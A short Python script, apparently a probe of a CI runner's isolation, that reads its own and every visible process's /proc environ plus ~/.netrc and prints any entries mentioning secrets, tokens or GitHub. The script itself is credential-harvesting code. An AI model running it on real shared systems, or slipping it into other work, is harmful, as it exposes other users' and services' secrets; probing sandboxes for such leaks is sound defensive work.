"""Looks for the runner's variables, in its own and in those of every process that it can see."""

import glob
import os

import honest  # noqa: F401

print("looking at", len(glob.glob("/proc/[0-9]*/environ")), "processes")
for name in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ"), os.path.expanduser("~/.netrc")]:
    try:
        with open(name, "rb") as file:
            content = file.read()
    except OSError as error:
        print("refused", name, error.strerror)
        continue
    print("read", name, [word for word in content.decode().split("\0") if "secret" in word])
print({name: value for name, value in os.environ.items() if "TOKEN" in name or "GITHUB" in name})
